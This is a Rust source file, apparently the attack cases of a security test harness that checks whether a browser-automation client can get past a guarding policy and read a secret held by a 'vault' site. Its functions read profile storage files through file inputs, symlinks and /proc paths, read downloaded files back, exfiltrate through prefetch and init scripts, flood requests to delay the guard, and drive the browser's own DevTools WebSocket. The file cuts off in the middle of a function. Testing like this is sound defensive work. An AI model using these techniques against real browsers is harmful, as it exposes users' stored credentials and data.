fn vault_stored(ctx: &Ctx) -> Result<(), Stop> {
    ctx.user_open(&ctx.vault("/app"))?;
    ctx.app()
        .app_event(&ctx.tag, "idb", "stored", Duration::from_secs(5))
        .map(|_| ())
        .ok_or_else(|| Stop::Setup("the vault never stored its database".into()))
}

fn file_input_profile(ctx: &Ctx) -> Res {
    file_input_with(ctx, &|profile| storage_files(profile))
}

fn file_input_symlink(ctx: &Ctx) -> Res {
    let tmp = tempfile::Builder::new()
        .prefix(&format!("slicc-attacks-link-{}-", ctx.tag))
        .tempdir()
        .map_err(|e| Stop::Setup(format!("link dir: {e}")))?;
    let link = tmp.path().join("d");
    let profile = profile_dir(ctx).ok_or_else(|| Stop::Setup("no profile dir".into()))?;
    std::os::unix::fs::symlink(profile.join("Default"), &link)
        .map_err(|e| Stop::Setup(format!("symlink: {e}")))?;
    let default = profile.join("Default").display().to_string();
    let link = link.display().to_string();
    file_input_with(ctx, &|profile| {
        storage_files(profile)
            .into_iter()
            .map(|f| f.replacen(&default, &link, 1))
            .collect()
    })
}

fn file_input_proc_root(ctx: &Ctx) -> Res {
    file_input_with(ctx, &|profile| {
        storage_files(profile)
            .into_iter()
            .map(|f| format!("/proc/self/root{f}"))
            .collect()
    })
}

fn file_input_proc_fd(ctx: &Ctx) -> Res {
    // The storage service keeps the Local Storage log open (asked once the vault stored).
    file_input_with(ctx, &|_| {
        let info = ctx
            .send("SystemInfo.getProcessInfo", json!({}), None)
            .unwrap_or_default();
        info["processInfo"]
            .as_array()
            .into_iter()
            .flatten()
            .filter(|p| p["type"].as_str().is_some_and(|t| t.contains("Storage")))
            .filter_map(|p| p["id"].as_u64())
            .flat_map(|pid| (0..64).map(move |n| format!("/proc/{pid}/fd/{n}")))
            .collect()
    })
}

/// The vault stores its secret; the client's page gets the files `files` names (from the
/// profile dir) in a file input and reads them.
fn file_input_with(ctx: &Ctx, files: &dyn Fn(&std::path::Path) -> Vec<String>) -> Res {
    vault_stored(ctx)?;
    let profile = profile_dir(ctx).ok_or_else(|| Stop::Setup("no profile dir".into()))?;
    let (_, s) = client_page(ctx, None)?;
    ctx.eval(
        &s,
        "document.body.insertAdjacentHTML('beforeend', '<input type=file id=fi multiple>'); true",
    )?;
    // Each file on its own (one that is not readable holds up no other), and only small files
    // with something in them (a process's descriptors include pipes and large resource packs).
    let read = "(async () => { const fs = Array.from(document.getElementById('fi').files).filter((f) => f.size > 0 && f.size < 1048576); \
        window.__got = ''; \
        fs.forEach((f) => f.arrayBuffer().then((b) => { window.__got += f.name + ':' + new TextDecoder('latin1').decode(b) + '\\n'; }, () => {})); \
        await new Promise((r) => setTimeout(r, 700)); return window.__got; })()";
    // Local storage reaches its files a few seconds after the page wrote it.
    let deadline = std::time::Instant::now() + Duration::from_secs(15);
    let mut last = String::new();
    let mut failure = None;
    loop {
        let doc = ctx.send("DOM.getDocument", json!({}), Some(&s))?;
        let node = ctx.send(
            "DOM.querySelector",
            json!({"nodeId": doc["root"]["nodeId"], "selector": "#fi"}),
            Some(&s),
        )?;
        ctx.send(
            "DOM.setFileInputFiles",
            json!({"nodeId": node["nodeId"], "files": files(&profile)}),
            Some(&s),
        )?;
        // The read takes 0.7-2.2 s on an idle machine with the 64 descriptors of the storage
        // service, and more than the client's 6 s call timeout on a loaded one: it gets 20 s,
        // and a read that still did not answer is tried again on the next turn.
        match ctx.eval_quick(&s, read, 20_000) {
            Ok(Value::String(text)) => {
                if text.contains(ctx.secret()) {
                    return ctx.holds_secret("the profile's storage files", &text);
                }
                last = text;
            }
            Ok(_) => {}
            Err(e) => failure = Some(e),
        }
        if std::time::Instant::now() >= deadline {
            return match failure {
                Some(e) if last.is_empty() => Err(e),
                _ => ctx.holds_secret("the profile's storage files", &last),
            };
        }
        sleep(1000);
    }
}

fn file_url_profile(ctx: &Ctx) -> Res {
    vault_stored(ctx)?;
    let profile = profile_dir(ctx).ok_or_else(|| Stop::Setup("no profile dir".into()))?;
    let (_, s) = client_page(ctx, None)?;
    sleep(6000);
    let mut seen = Vec::new();
    for f in storage_files(&profile) {
        let url = format!("file://{}", f.replace(' ', "%20"));
        let r = ctx.send("Page.navigate", json!({"url": url}), Some(&s));
        sleep(500);
        let text = ctx
            .eval(
                &s,
                "document.documentElement ? document.documentElement.textContent : ''",
            )
            .unwrap_or_default();
        let text = text.as_str().unwrap_or_default().to_string();
        if text.contains(ctx.secret()) {
            return ctx.holds_secret(&format!("the document of {url}"), &text);
        }
        seen.push(format!("{url}: {} ({} bytes)", r.is_ok(), text.len()));
    }
    Err(Stop::Failed(format!(
        "no file: document held the secret: {seen:?}"
    )))
}

fn download_path_popup(ctx: &Ctx) -> Res {
    download_read_back(ctx, Dl::default(), &|ctx| {
        format!("window.open({}); true", json!(ctx.vault("/download")))
    })
}

fn download_hop_popup(ctx: &Ctx) -> Res {
    download_read_back(ctx, Dl::default(), &|ctx| {
        format!("window.open({}); true", json!(download_hop(ctx, 0)))
    })
}

fn download_anchor(ctx: &Ctx) -> Res {
    download_read_back(ctx, Dl::default(), &|ctx| {
        format!(
            "(() => {{ const a = document.createElement('a'); a.href = {}; a.download = ''; document.body.append(a); a.click(); return true; }})()",
            json!(ctx.vault("/download"))
        )
    })
}

fn download_named(ctx: &Ctx) -> Res {
    let how = Dl {
        behavior: "allowAndName",
        ..Dl::default()
    };
    download_read_back(ctx, how, &|ctx| {
        format!("window.open({}); true", json!(ctx.vault("/download")))
    })
}

fn download_late_behavior(ctx: &Ctx) -> Res {
    let how = Dl {
        late: true,
        ..Dl::default()
    };
    download_read_back(ctx, how, &|ctx| {
        format!("window.open({}); true", json!(download_hop(ctx, 1500)))
    })
}

fn download_second_context(ctx: &Ctx) -> Res {
    let how = Dl {
        context: true,
        ..Dl::default()
    };
    download_read_back(ctx, how, &|ctx| {
        format!("window.open({}); true", json!(ctx.vault("/download")))
    })
}

fn download_page_behavior(ctx: &Ctx) -> Res {
    let how = Dl {
        page: true,
        ..Dl::default()
    };
    download_read_back(ctx, how, &|ctx| {
        format!("window.open({}); true", json!(ctx.vault("/download")))
    })
}

fn download_predrop(ctx: &Ctx) -> Res {
    let how = Dl {
        predrop: true,
        ..Dl::default()
    };
    download_read_back(ctx, how, &|ctx| {
        format!("window.open({}); true", json!(download_hop(ctx, 0)))
    })
}

/// An ordinary redirect (after `ms`) to the vault's download.
fn download_hop(ctx: &Ctx, ms: u64) -> String {
    format!(
        "http://ordinary.test/hop?ms={ms}&to={}",
        encode(&ctx.vault("/download"))
    )
}

/// How a download attack sets up (c7.download-*).
struct Dl {
    /// `Browser.setDownloadBehavior`'s behavior.
    behavior: &'static str,
    /// In a browser context of the client's own.
    context: bool,
    /// The folder set after the download was started (a slow hop).
    late: bool,
    /// By `Page.setDownloadBehavior`.
    page: bool,
    /// The client's page is handed the folder (a drop) before the download.
    predrop: bool,
}

impl Default for Dl {
    fn default() -> Dl {
        Dl {
            behavior: "allow",
            context: false,
            late: false,
            page: false,
            predrop: false,
        }
    }
}

/// The client chooses a download folder of its own, its page starts a vault download (the
/// script `start` gives), and the page reads the folder back: a drop of the folder, whose
/// entries the page walks (the secret is in the file's name and in its body).
fn download_read_back(ctx: &Ctx, how: Dl, start: &dyn Fn(&Ctx) -> String) -> Res {
    let tmp = tempfile::Builder::new()
        .prefix(&format!("slicc-attacks-dl-{}-", ctx.tag))
        .tempdir()
        .map_err(|e| Stop::Setup(format!("download dir: {e}")))?;
    let dir = tmp.path().display().to_string();
    let mut context = Value::Null;
    let result = (|| {
        let url = ctx.url("http://ordinary.test", "/page");
        let s = if how.context {
            let c = ctx.send("Target.createBrowserContext", json!({}), None)?;
            context = c["browserContextId"].clone();
            let t = ctx.send(
                "Target.createTarget",
                json!({"url": url, "browserContextId": context}),
                None,
            )?;
            let s = ctx.attach(t["targetId"].as_str().unwrap_or_default())?;
            ctx.wait_true(
                &s,
                &format!(
                    "location.href === {} && document.readyState === 'complete'",
                    json!(url)
                ),
                5000,
            )?;
            s
        } else {
            client_page(ctx, None)?.1
        };
        let set = |ctx: &Ctx| -> Result<Value, Stop> {
            if how.page {
                ctx.send(
                    "Page.setDownloadBehavior",
                    json!({"behavior": "allow", "downloadPath": dir}),
                    Some(&s),
                )
            } else {
                let mut p = json!({"behavior": how.behavior, "downloadPath": dir});
                if !context.is_null() {
                    p["browserContextId"] = context.clone();
                }
                ctx.send("Browser.setDownloadBehavior", p, None)
            }
        };
        if !how.late {
            set(ctx)?;
        }
        ctx.eval(
            &s,
            "(() => { const d = document.createElement('div'); d.style.cssText = 'position:absolute;left:0;top:0;width:300px;height:300px'; \
             d.addEventListener('dragover', (e) => e.preventDefault()); \
             d.addEventListener('drop', (e) => { e.preventDefault(); window.__dir = e.dataTransfer.items[0].webkitGetAsEntry(); }); \
             document.body.append(d); \
             window.__walk = () => new Promise((res) => { const d = window.__dir; if (!d || !d.isDirectory) return res(''); \
               d.createReader().readEntries((es) => Promise.all(es.filter((x) => x.isFile).map((x) => new Promise((r) => x.file((f) => f.arrayBuffer().then((b) => r(x.name + ':' + new TextDecoder('latin1').decode(b)), () => r(x.name)), () => r(x.name))))).then((v) => res(v.join('\\n'))), () => res('')); }); \
             return true; })()",
        )?;
        let drop = |ctx: &Ctx| -> Result<(), Stop> {
            let data = json!({"items": [], "files": [dir], "dragOperationsMask": 1});
            for kind in ["dragEnter", "dragOver", "drop"] {
                ctx.send(
                    "Input.dispatchDragEvent",
                    json!({"type": kind, "x": 100, "y": 100, "data": data}),
                    Some(&s),
                )?;
            }
            Ok(())
        };
        if how.predrop {
            drop(ctx)?;
        }
        ctx.eval(&s, &start(ctx))?;
        if how.late {
            sleep(300);
            set(ctx)?;
        }
        let deadline =
            std::time::Instant::now() + Duration::from_secs(if how.late { 7 } else { 5 });
        let mut got;
        loop {
            sleep(500);
            if !how.predrop {
                drop(ctx)?;
                sleep(200);
            }
            let v = ctx.eval(&s, "window.__walk()")?;
            got = v.as_str().unwrap_or_default().to_string();
            if got.contains(ctx.secret()) || std::time::Instant::now() >= deadline {
                break;
            }
        }
        ctx.holds_secret("the client's download folder, read back by its page", &got)
    })();
    // Downloads stop before the folder goes (else the browser writes them elsewhere).
    let mut p = json!({"behavior": "deny"});
    if !context.is_null() {
        p["browserContextId"] = context.clone();
    }
    let _ = ctx.obs().send("Browser.setDownloadBehavior", p, None);
    sleep(300);
    if !context.is_null() {
        let _ = ctx.obs().send(
            "Target.disposeBrowserContext",
            json!({"browserContextId": context}),
            None,
        );
    }
    let _ = tmp.close();
    result
}

fn worker_script_source(ctx: &Ctx) -> Res {
    let (_, s) = client_page(ctx, None)?;
    let from = ctx.c.event_count();
    ctx.send(
        "Target.setAutoAttach",
        json!({"autoAttach": true, "waitForDebuggerOnStart": false, "flatten": true}),
        Some(&s),
    )?;
    ctx.eval(
        &s,
        &format!(
            "window.__wk = new Worker(URL.createObjectURL(new Blob([{}], {{type: 'text/javascript'}}))); true",
            json!(format!(
                "importScripts({}); setInterval(() => 0, 1000);",
                json!(ctx.vault("/secret.js"))
            ))
        ),
    )?;
    let (_, e) = ctx
        .c
        .wait_event(
            from,
            &|e| {
                e.method == "Target.attachedToTarget" && e.params["targetInfo"]["type"] == "worker"
            },
            Duration::from_secs(5),
        )
        .ok_or_else(|| Stop::Failed("no session to the worker".into()))?;
    let w = e.params["sessionId"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    sleep(500);
    let from = ctx.c.event_count();
    ctx.send("Debugger.enable", json!({}), Some(&w))?;
    sleep(500);
    let mut ids: Vec<String> = ctx
        .events(from)
        .iter()
        .filter(|e| e.method == "Debugger.scriptParsed")
        .filter_map(|e| e.params["scriptId"].as_str().map(String::from))
        .collect();
    ids.extend((0..40).map(|n| n.to_string()));
    let mut text = String::new();
    for id in ids {
        if let Ok(r) = ctx.c.send(
            "Debugger.getScriptSource",
            json!({"scriptId": id}),
            Some(&w),
        ) {
            text.push_str(r["scriptSource"].as_str().unwrap_or_default());
            if text.contains(ctx.secret()) {
                break;
            }
        }
    }
    ctx.holds_secret("the worker's script sources", &text)
}

/// An init script that runs the exfiltration once the document is parsed.
fn exfil_on_load(ctx: &Ctx) -> String {
    format!(
        "document.addEventListener('DOMContentLoaded', () => {{ {} }});",
        ctx.exfil_js()
    )
}

/// The client's page on `origin` (with an init script) prefetches `target` by speculation
/// rules, and its own script navigates there `delay` ms later (the client needs no session
/// by then).
fn prefetch_then_go(ctx: &Ctx, origin: &str, target: &str, fresh: bool, delay: u64) -> Res {
    prefetch_then_go_flooded(ctx, origin, target, fresh, delay, false)
}

/// [`prefetch_then_go`], the page flooding requests ([`flood`]) from 300 ms before it adds
/// the speculation rules until it navigates, when `flooded`.
fn prefetch_then_go_flooded(
    ctx: &Ctx,
    origin: &str,
    target: &str,
    fresh: bool,
    delay: u64,
    flooded: bool,
) -> Res {
    let url = ctx.url(origin, "/page");
    // Chromium prefetches a cross-site document only while the profile has no cookie for
    // it: a fresh browser context has none.
    let s = if fresh {
        let c = ctx.send("Target.createBrowserContext", json!({}), None)?;
        let t = ctx.send(
            "Target.createTarget",
            json!({"url": url, "browserContextId": c["browserContextId"]}),
            None,
        )?;
        ctx.attach(t["targetId"].as_str().unwrap_or_default())?
    } else {
        ctx.open(&url)?.1
    };
    ctx.wait_true(&s, "document.readyState === 'complete'", 10_000)?;
    let _ = ctx.send("Page.enable", json!({}), Some(&s));
    ctx.send(
        "Page.addScriptToEvaluateOnNewDocument",
        json!({"source": exfil_on_load(ctx)}),
        Some(&s),
    )?;
    let rules = json!({"prefetch": [{"source": "list", "urls": [target]}]}).to_string();
    let go = format!(
        "(() => {{ const e = document.createElement('script'); e.type = 'speculationrules'; e.textContent = {}; document.head.append(e); setTimeout(() => {{ location.href = {}; }}, {delay}); return true; }})()",
        json!(rules),
        json!(target),
    );
    if flooded {
        flood(ctx, &s, 0, delay + 1300)?;
        sleep(300);
        // Its answer waits behind the flood's events: not waited for.
        let _ = ctx.c.send_timeout(
            "Runtime.evaluate",
            json!({"expression": go}),
            Some(&s),
            Duration::from_millis(300),
        );
    } else {
        ctx.eval(&s, &go)?;
    }
    let path = target.split_once("://").map_or("", |(_, r)| r);
    let host = path.split('/').next().unwrap_or_default().to_string();
    let app_requests = || {
        ctx.app()
            .log()
            .iter()
            .filter(|h| h.host == host && h.path() == "/app" && h.target.contains(&ctx.tag))
            .count()
    };
    sleep(delay + 500);
    ctx.exfil_loop(&s, 2000);
    ctx.exfiltrated(2000).map(|e| {
        format!(
            "{e} ({} request(s) for the app: the navigation used the prefetch when 1)",
            app_requests()
        )
    })
}

fn prefetch_navigation(ctx: &Ctx) -> Res {
    prefetch_then_go(ctx, "http://ordinary.test", &ctx.vault("/app"), true, 800)
}

fn prefetch_hop_after_attach(ctx: &Ctx) -> Res {
    prefetch_then_go(
        ctx,
        "http://ordinary.test",
        &hop_to_vault(ctx, 0),
        true,
        800,
    )
}

fn prefetch_at_once(ctx: &Ctx) -> Res {
    prefetch_then_go(ctx, "http://ordinary.test", &ctx.vault("/app"), true, 0)
}

fn prefetch_same_site(ctx: &Ctx) -> Res {
    let target = ctx.url("http://client.example", "/app");
    prefetch_then_go(ctx, "http://other.client.example", &target, false, 800)
}

fn auto_attach_user_tab(ctx: &Ctx) -> Res {
    let from = ctx.c.event_count();
    ctx.send(
        "Target.setAutoAttach",
        json!({"autoAttach": true, "waitForDebuggerOnStart": true, "flatten": true}),
        None,
    )?;
    let before: Vec<Value> = ctx
        .user_targets()
        .iter()
        .map(|t| t["targetId"].clone())
        .collect();
    ctx.obs()
        .send(
            "Target.createTarget",
            json!({"url": hop_to_vault(ctx, 1500)}),
            None,
        )
        .map_err(|e| super::setup("the user's tab", e))?;
    let (_, e) = ctx
        .c
        .wait_event(
            from,
            &|e| {
                e.method == "Target.attachedToTarget"
                    && e.params["targetInfo"]["type"] == "page"
                    && !before.contains(&e.params["targetInfo"]["targetId"])
            },
            Duration::from_secs(4),
        )
        .ok_or_else(|| {
            Stop::Failed(format!(
                "no session to the user's tab: {}",
                e_info(&ctx.events(from))
            ))
        })?;
    let p = e.params["sessionId"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    exfil_during_commit(ctx, &p)
}

/// [`auto_attach_user_tab`], with the client's own page making requests with long URLs from
/// just before the redirect lands until after it: their `Network` events (the policy's own
/// domain on every document session; the client has not enabled it) come in on the client's
/// connection before the redirect's, so a guard that judges the hop as it is reported judges
/// it late.
fn auto_attach_user_tab_flood(ctx: &Ctx) -> Res {
    let (_, page) = client_page(ctx, None)?;
    flood(ctx, &page, 1000, 2500)?;
    auto_attach_user_tab(ctx)
}

/// The client's page (its `session`) makes requests with long URLs, a burst every task, from
/// `start` ms on for `ms` ms: their `Network` events (the policy's own domain on every document
/// session; the client has not enabled it) reach the policy ahead of later events of the
/// browser, so whatever it does on reading one of those comes late. `FLOOD_PAD`,
/// `FLOOD_BURST`, `FLOOD_START` and `FLOOD_MS` override the URL length, the burst and the times.
fn flood(ctx: &Ctx, session: &str, start: u64, ms: u64) -> Result<(), Stop> {
    ctx.eval(session, &flood_script(ctx, start, ms)).map(|_| ())
}

/// The script of [`flood`].
fn flood_script(ctx: &Ctx, start: u64, ms: u64) -> String {
    format!(
        "(() => {{ const pad = 'a'.repeat({pad}); setTimeout(() => {{ const end = Date.now() + {ms}; \
         (function f() {{ for (let i = 0; i < {burst}; i++) fetch('/flood?t={tag}&p=' + pad + i).catch(() => {{}}); \
         if (Date.now() < end) setTimeout(f, 0); }})(); }}, {start}); return true; }})()",
        pad = flood_env("FLOOD_PAD", 60_000),
        ms = flood_env("FLOOD_MS", ms),
        burst = flood_env("FLOOD_BURST", 8),
        start = flood_env("FLOOD_START", start),
        tag = ctx.tag,
    )
}

fn flood_env(name: &str, default: u64) -> u64 {
    std::env::var(name)
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

/// The browser's own DevTools endpoint, `http://127.0.0.1:<port>` (the attacker learns the port
/// by scanning loopback from a page, or knows the usual one).
fn devtools_endpoint(ctx: &Ctx) -> String {
    ctx.leg
        .chromium
        .http_url()
        .trim_end_matches('/')
        .to_string()
}

/// On a page of the browser's DevTools endpoint (session `s`): its script reads
/// `/json/version`, opens the browser WebSocket (Chromium trusts its own origin), makes a
/// target on the vault and reads its secret there.
fn endpoint_page_reads_vault(ctx: &Ctx, s: &str) -> Res {
    ctx.wait_true(
        s,
        "document.readyState === 'complete' && location.port !== ''",
        10_000,
    )?;
    let script = format!(
        "new Promise((r) => {{ (async () => {{ \
         const v = await (await fetch('/json/version')).json(); const ws = new WebSocket(v.webSocketDebuggerUrl); \
         let n = 0; const waits = {{}}; \
         const call = (method, params, sessionId) => new Promise((res) => {{ const id = ++n; waits[id] = res; ws.send(JSON.stringify({{id, method, params, sessionId}})); }}); \
         ws.onmessage = (e) => {{ const m = JSON.parse(e.data); if (m.id && waits[m.id]) waits[m.id](m); }}; \
         await new Promise((res, rej) => {{ ws.onopen = res; ws.onerror = () => rej('the WebSocket failed'); }}); \
         const t = await call('Target.createTarget', {{url: {vault}}}); \
         const a = await call('Target.attachToTarget', {{targetId: t.result.targetId, flatten: true}}); \
         for (let i = 0; i < 50; i++) {{ \
           const ev = await call('Runtime.evaluate', {{expression: \"(document.getElementById('secret') || {{}}).textContent || ''\", returnByValue: true}}, a.result.sessionId); \
           const val = ev.result && ev.result.result && ev.result.result.value; \
           if (val) {{ await call('Target.closeTarget', {{targetId: t.result.targetId}}); return r(val); }} \
           await new Promise((z) => setTimeout(z, 100)); }} \
         r('no secret'); }})().catch((e) => r('failed ' + e)); setTimeout(() => r('timeout'), 10000); }})",
        vault = json!(ctx.vault("/app")),
    );
    let got = ctx.eval(s, &script)?;
    ctx.holds_secret(
        "the endpoint page's own browser WebSocket",
        got.as_str().unwrap_or_default(),
    )
}

fn devtools_endpoint_page(ctx: &Ctx) -> Res {
    let (_, s) = ctx.open(&format!("{}/json/version", devtools_endpoint(ctx)))?;
    endpoint_page_reads_vault(ctx, &s)
}

fn devtools_endpoint_hop(ctx: &Ctx) -> Res {
    let (_, s) = client_page(ctx, None)?;
    let hop = format!(
        "http://ordinary.test/hop?t={}&to={}",
        ctx.tag,
        encode(&format!("{}/json/version", devtools_endpoint(ctx)))
    );
    ctx.eval(&s, &format!("location.href = {}; true", json!(hop)))?;
    endpoint_page_reads_vault(ctx, &s)
}

fn devtools_endpoint_localhost(ctx: &Ctx) -> Res {
    let vault = ctx.vault("/app");
    ctx.user_open(&vault)?;
    let url = devtools_endpoint(ctx).replace("127.0.0.1", "localhost");
    let (_, s) = ctx.open(&format!("{url}/json/list"))?;
    ctx.wait_true(
        s.as_str(),
        "document.readyState === 'complete' && location.port !== ''",
        10_000,
    )?;
    let text = ctx.eval(&s, "document.body ? document.body.innerText : ''")?;
    let text = text.as_str().unwrap_or_default();
    if text.contains(&ctx.tag) && text.contains("vault") {
        Ok("the endpoint's /json/list, read as a page, lists the vault's tab".into())
    } else {
        Err(Stop::Failed(format!(
            "the page shows no vault tab: {}",
            text.chars().take(120).collect::<String>()
        )))
    }
}

fn devtools_endpoint_fetch_list(ctx: &Ctx) -> Res {
    ctx.user_open(&ctx.vault("/app"))?;
    let (_, s) = client_page(ctx, None)?;
    ctx.send(
        "Fetch.enable",
        json!({"patterns": [{"urlPattern": "*json/list*", "requestStage": "Response"}]}),
        Some(&s),
    )?;
    let from = ctx.c.event_count();
    let list = format!(
        "{}/json/list",
        devtools_endpoint(ctx).replace("127.0.0.1", "localhost")
    );
    ctx.eval(
        &s,
        &format!(
            "fetch({}, {{mode: 'no-cors'}}).catch(() => 0); true",
            json!(list)
        ),
    )?;
    let seen = std::sync::Mutex::new(String::new());
    pump_fetch(ctx, from, Some(&s), 3000, &|p| {
        if let Some(text) = paused_body(ctx, &p["requestId"], Some(&s)) {
            seen.lock()
                .unwrap_or_else(|e| e.into_inner())
                .push_str(&text);
        }
        true
    });
    let _ = ctx.c.send("Fetch.disable", json!({}), Some(&s));
    let text = seen.lock().unwrap_or_else(|e| e.into_inner()).clone();
    if text.contains(&ctx.tag) && text.contains("vault") {
        Ok(
            "the endpoint's /json/list, read by Fetch.getResponseBody, lists the vault's tab"
                .into(),
        )
    } else {
        Err(Stop::Failed(format!(
            "no vault tab in what the client read: {}",
            text.chars().take(120).collect::<String>()
        )))
    }
}

fn cookie_other_port(ctx: &Ctx) -> Res {
    user_visits_extra_origin(ctx)?;
    let url = ctx.url(&format!("{}:8181", super::EXTRA_ORIGIN), "/page");
    let (_, s) = ctx.open(&url)?;
    ctx.wait_true(
        &s,
        "location.port === '8181' && document.readyState === 'complete'",
        10_000,
    )?;
    let cookies = ctx.eval(&s, "document.cookie")?;
    ctx.holds_secret(
        "document.cookie of a page on another port of the extra origin's host",
        cookies.as_str().unwrap_or_default(),
    )
}

fn user_framed_at_attach(ctx: &Ctx) -> Res {
    let page = ctx.url(
        "http://ordinary.test",
        &format!("/page?frame={}", encode(&ctx.vault("/app"))),
    );
    let tab = ctx.user_open(&page)?;
    if !ctx.app_loaded(&ctx.tag, 5000) {
        return Err(Stop::Setup("the vault frame never loaded".into()));
    }
    let s = ctx.attach(&tab)?;
    let r = ctx.send("Page.captureSnapshot", json!({"format": "mhtml"}), Some(&s))?;
    ctx.holds_secret(
        "Page.captureSnapshot",
        r["data"].as_str().unwrap_or_default(),
    )
}

fn same_site_frame_at_attach(ctx: &Ctx) -> Res {
    let app = ctx.url("http://client.example", "/app");
    let page = ctx.url(
        "http://other.client.example",
        &format!("/page?frame={}", encode(&app)),
    );
    let tab = ctx.user_open(&page)?;
    if !ctx.app_loaded(&ctx.tag, 5000) {
        return Err(Stop::Setup("the extra origin's frame never loaded".into()));
    }
    let s = ctx.attach(&tab)?;
    let r = ctx.send(
        "DOM.getDocument",
        json!({"depth": -1, "pierce": true}),
        Some(&s),
    )?;
    ctx.holds_secret("DOM.getDocument", &r.to_string())
}

fn fetch_rewrite_url(ctx: &Ctx) -> Res {
    let (_, s) = client_page(ctx, None)?;
    ctx.send(
        "Fetch.enable",
        json!({"patterns": [{"urlPattern": "*rewrite=1*", "resourceType": "Document", "requestStage": "Request"}]}),
        Some(&s),
    )?;
    let mut answers = Vec::new();
    for to in [ctx.vault("/app"), hop_to_vault(ctx, 0)] {
        let from = ctx.c.event_count();
        let next = ctx.url("http://ordinary.test", "/page?rewrite=1");
        ctx.eval(&s, &format!("location.href = {}; true", json!(next)))?;
        let Some((_, e)) = ctx.c.wait_event(
            from,
            &|e| {
                e.method == "Fetch.requestPaused"
                    && e.params["request"]["url"]
                        .as_str()
                        .is_some_and(|u| u.contains("rewrite=1"))
            },
            Duration::from_secs(3),
        ) else {
            answers.push("never paused".to_string());
            continue;
        };
        let r = ctx.c.send(
            "Fetch.continueRequest",
            json!({"requestId": e.params["requestId"], "url": to}),
            Some(&s),
        );
        answers.push(format!("{r:?}"));
        sleep(1000);
        if let Ok(Value::String(text)) = ctx.eval_quick(&s, DEEP_TEXT, 2000) {
            if text.contains(ctx.secret()) {
                return ctx.holds_secret("the rewritten document", &text);
            }
        }
    }
    Err(Stop::Failed(format!(
        "no rewritten document held the secret: {answers:?}"
    )))
}

fn drag_files_profile(ctx: &Ctx) -> Res {
    drop_files_with(ctx, "", &|profile| storage_files(profile))
}

fn drag_profile_parent(ctx: &Ctx) -> Res {
    let profile = profile_dir(ctx).ok_or_else(|| Stop::Setup("no profile dir".into()))?;
    let (Some(parent), Some(name)) = (profile.parent(), profile.file_name()) else {
        return Err(Stop::Setup(format!("{} has no parent", profile.display())));
    };
    // The page walks from the dropped folder to the profile's Local Storage (its name is as
    // well known as `~/.config/chromium`).
    let walk = format!("{}/Default/Local Storage/leveldb", name.to_string_lossy());
    let parent = parent.display().to_string();
    drop_files_with(ctx, &walk, &|_| vec![parent.clone()])
}

/// The vault stores its secret; the client drops the files `files` names (from the profile
/// dir) on its page, which reads them (a dropped folder: the files in its subfolder `walk`).
fn drop_files_with(ctx: &Ctx, walk: &str, files: &dyn Fn(&std::path::Path) -> Vec<String>) -> Res {
    vault_stored(ctx)?;
    let profile = profile_dir(ctx).ok_or_else(|| Stop::Setup("no profile dir".into()))?;
    let (_, s) = client_page(ctx, None)?;
    ctx.eval(
        &s,
        &format!("(() => {{ const walk = {}; const d = document.createElement('div'); d.style.cssText = 'position:absolute;left:0;top:0;width:300px;height:300px'; \
         const keep = (name, b) => {{ window.__got = (window.__got || '') + name + ':' + new TextDecoder('latin1').decode(b) + '\\n'; }}; \
         d.addEventListener('dragover', (e) => e.preventDefault()); \
         d.addEventListener('drop', (e) => {{ e.preventDefault(); \
           if (walk) {{ const root = e.dataTransfer.items[0].webkitGetAsEntry(); \
             root.getDirectory(walk, {{}}, (dir) => dir.createReader().readEntries((es) => es.filter((x) => x.isFile).forEach((x) => x.file((f) => f.arrayBuffer().then((b) => keep(x.name, b)))))); return; }} \
           Array.from(e.dataTransfer.files).forEach((f) => f.arrayBuffer().then((b) => keep(f.name, b), () => {{}})); }}); \
         document.body.append(d); return true; }})()", json!(walk)),
    )?;
    let deadline = std::time::Instant::now() + Duration::from_secs(15);
    loop {
        let data = json!({"items": [], "files": files(&profile), "dragOperationsMask": 1});
        for kind in ["dragEnter", "dragOver", "drop"] {
            ctx.send(
                "Input.dispatchDragEvent",
                json!({"type": kind, "x": 100, "y": 100, "data": data}),
                Some(&s),
            )?;
        }
        sleep(700);
        let got = ctx.eval(&s, "window.__got || ''")?;
        let got = got.as_str().unwrap_or_default().to_string();
        if got.contains(ctx.secret()) || std::time::Instant::now() >= deadline {
            return ctx.holds_secret("the dropped profile files", &got);
        }
        sleep(1000);
    }
}

fn prefetch_before_attach(ctx: &Ctx) -> Res {
    prefetched_before_attach(ctx, &ctx.vault("/app"))
}

fn prefetch_hop_before_attach(ctx: &Ctx) -> Res {
    prefetched_before_attach(ctx, &hop_to_vault(ctx, 0))
}

/// The user's ordinary tab prefetches `target` (which is or leads to the vault app); the
/// client attaches then, with an init script, and the page navigates to `target`.
fn prefetched_before_attach(ctx: &Ctx, target: &str) -> Res {
    let c = ctx
        .obs()
        .send("Target.createBrowserContext", json!({}), None)
        .map_err(|e| super::setup("the user's context", e))?;
    let url = ctx.url("http://ordinary.test", "/page");
    let t = ctx
        .obs()
        .send(
            "Target.createTarget",
            json!({"url": url, "browserContextId": c["browserContextId"]}),
            None,
        )
        .map_err(|e| super::setup("the user's tab", e))?;
    let tab = t["targetId"].as_str().unwrap_or_default().to_string();
    ctx.user_wait_loaded(&tab, &url)?;
    let rules = json!({"prefetch": [{"source": "list", "urls": [target]}]}).to_string();
    ctx.user_eval(
        &tab,
        &format!(
            "(() => {{ const e = document.createElement('script'); e.type = 'speculationrules'; e.textContent = {}; document.head.append(e); return true; }})()",
            json!(rules)
        ),
    )?;
    ctx.app()
        .wait(Duration::from_secs(3), |h| {
            h.host == on_site("vault.sliccy.ai")
                && h.path() == "/app"
                && h.target.contains(&ctx.tag)
        })
        .ok_or_else(|| Stop::Setup("the page never prefetched the vault".into()))?;
    let s = ctx.attach(&tab)?;
    let _ = ctx.send("Page.enable", json!({}), Some(&s));
    ctx.send(
        "Page.addScriptToEvaluateOnNewDocument",
        json!({"source": exfil_on_load(ctx)}),
        Some(&s),
    )?;
    ctx.user_eval(
        &tab,
        &format!(
            "setTimeout(() => {{ location.href = {}; }}, 100); true",
            json!(target)
        ),
    )?;
    sleep(600);
    ctx.exfil_loop(&s, 2000);
    ctx.exfiltrated(2000)
}

fn clipboard_read(ctx: &Ctx) -> Res {
    let tab = ctx.user_open(&ctx.vault("/app"))?;
    let copied = ctx.user_eval(
        &tab,
